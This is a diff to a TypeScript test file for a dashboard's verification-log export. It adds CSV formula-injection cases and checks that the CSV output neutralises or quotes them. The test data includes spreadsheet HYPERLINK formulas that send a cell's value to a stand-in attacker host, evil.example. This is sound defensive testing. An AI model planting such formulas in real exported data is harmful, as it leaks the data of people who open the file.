@@ -2,13 +2,17 @@ import { randomUUID } from 'node:crypto'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { parseCsv } from '../helpers/csv.js'
 import { asBrowser, asScript, createTestAccount, createTestSite, type CreatedSite, type TestAccount } from '../helpers/dashboard-client.js'
-import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines } from '../helpers/log-export.js'
+import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines, withDaysAround } from '../helpers/log-export.js'
 import { buildTestApp, deployments, type TestApp } from '../helpers/test-app.js'
 import { insertVerifications, type VerificationRow } from '../helpers/verification-rows.js'
 
 const actions = ['allow', 'challenge', 'block', 'rejected'] as const
 const DEVICE = 'a1b2c3d4e5f6a7b8c9d0e1f2'
 const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+/** A cell of its own where Excel's list separator is `;` (German, French locales) unless quoted. */
+const AFTER_SEMICOLON = 'Mozilla/5.0;=HYPERLINK("https://evil.example/")'
+/** Spreadsheets skip the space and run the formula. */
+const AFTER_SPACE = ' =1+1'
 /** More rows than one batch of the export (500) holds, twice over. */
 const ROW_COUNT = 1_200
 
@@ -40,7 +44,7 @@ describe.each(deployments)('exports of the verification log on $name', ({ availa
       anomalies: index % 5 === 0 ? ['datacenter_ip', 'headless_browser'] : [],
       hostname: index % 7 === 0 ? 'shop.example' : null,
       device: index % 10 === 0 ? DEVICE : null,
-      userAgent: index === 1 ? HYPERLINK : index === 2 ? 'Agent, "quoted"\r\nnext line' : index === 3 ? '-1+1' : null,
+      userAgent: index === 1 ? HYPERLINK : index === 2 ? 'Agent, "quoted"\r\nnext line' : index === 3 ? '-1+1' : index === 4 ? AFTER_SEMICOLON : index === 5 ? AFTER_SPACE : null,
     }))
     await insertVerifications(service.app.database, rows)
     await insertVerifications(service.app.database, [{ siteId: other.id, createdAt: new Date(base), action: 'allow' }])
@@ -56,10 +60,10 @@ describe.each(deployments)('exports of the verification log on $name', ({ availa
   const listAll = (query: string) => listAllPages<Item>(service.app, `/api/v1/sites/${site.id}/verifications?${query}`, asScript(account))
 
   it.skipIf(!available)('answers a CSV file of every row, newest first, each once, with the listing’s fields as columns', async () => {
-    const response = await exportOf('')
+    const { result: response, days } = await withDaysAround(() => exportOf(''))
     expect(response.statusCode, response.body).toBe(200)
     expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
-    expect(response.headers['content-disposition']).toBe(`attachment; filename="tollgate-shop-eu-verifications-${new Date().toISOString().slice(0, 10)}.csv"`)
+    expect(days.map((day) => `attachment; filename="tollgate-shop-eu-verifications-${day}.csv"`)).toContain(response.headers['content-disposition'])
     const [header, ...records] = parseCsv(response.body)
     const listed = await listAll('')
     expect(listed).toHaveLength(ROW_COUNT)
@@ -75,13 +79,16 @@ describe.each(deployments)('exports of the verification log on $name', ({ availa
     })
   })
 
-  it.skipIf(!available)('neutralises cells a spreadsheet would run as formulas, and quotes commas, quotes and line breaks', async () => {
+  it.skipIf(!available)('neutralises cells a spreadsheet would run as formulas, and quotes commas, semicolons, quotes and line breaks', async () => {
     const response = await exportOf('')
     const [header, ...records] = parseCsv(response.body)
     const userAgents = records.map((record) => record[header?.indexOf('userAgent') ?? -1]).filter((cell) => cell !== '')
-    expect(userAgents.toSorted()).toEqual([`'${HYPERLINK}`, "'-1+1", 'Agent, "quoted"\r\nnext line'].toSorted())
+    expect(userAgents.toSorted()).toEqual([`'${HYPERLINK}`, "'-1+1", 'Agent, "quoted"\r\nnext line', AFTER_SEMICOLON, `'${AFTER_SPACE}`].toSorted())
     expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`)
     expect(response.body).toContain('"Agent, ""quoted""\r\nnext line"')
+    // Quoted whole, so that no separator splits it into a cell that begins with =.
+    expect(response.body).toContain(',"Mozilla/5.0;=HYPERLINK(""https://evil.example/"")",')
+    expect(response.body).toContain(",' =1+1,")
   })
 
   it.skipIf(!available)('answers NDJSON lines equal to the listing’s items', async () => {
@@ -123,6 +130,8 @@ describe.each(deployments)('exports of the verification log on $name', ({ availa
     ['?from=yesterday', 'querystring.from'],
     ['?to=2026-13-01T00:00:00Z', 'querystring.to'],
     ['?from=0001-01-01T00:00:00Z', 'querystring.from'],
+    ['?from=2026-02-01T00:00:00.1234Z', 'querystring.from'],
+    ['?to=2026-02-01T00:00:00.123456%2B01:00', 'querystring.to'],
     ['?format=xlsx', 'querystring.format'],
     ['?action=maybe', 'querystring.action'],
     ['?device=not-a-device', 'querystring.device'],
@@ -143,10 +152,15 @@ describe.each(deployments)('exports of the verification log on $name', ({ availa
     }
   })
 
-  it.skipIf(!available)('lets a read-only API key export, and the session cookie by a plain link (no Origin)', async () => {
+  it.skipIf(!available)('lets a read-only API key export', async () => {
     const byReadKey = await exportOf('?format=ndjson&action=block', { authorization: `Bearer ${await createReadOnlyKey(service.app, account)}` })
     expect(byReadKey.statusCode, byReadKey.body).toBe(200)
     expect(byReadKey.body.trimEnd().split('\n')).toHaveLength(ROW_COUNT / 4)
+  })
+
+  // GETs are never checked for Origin (only state-changing requests are): what this pins is that
+  // the session cookie alone, all a download link sends, is enough for the export.
+  it.skipIf(!available)('lets the session cookie alone export, as a download link sends it', async () => {
     const byLink = await exportOf('', { cookie: account.cookie })
     expect(byLink.statusCode, byLink.body).toBe(200)
     expect(parseCsv(byLink.body)).toHaveLength(ROW_COUNT + 1)
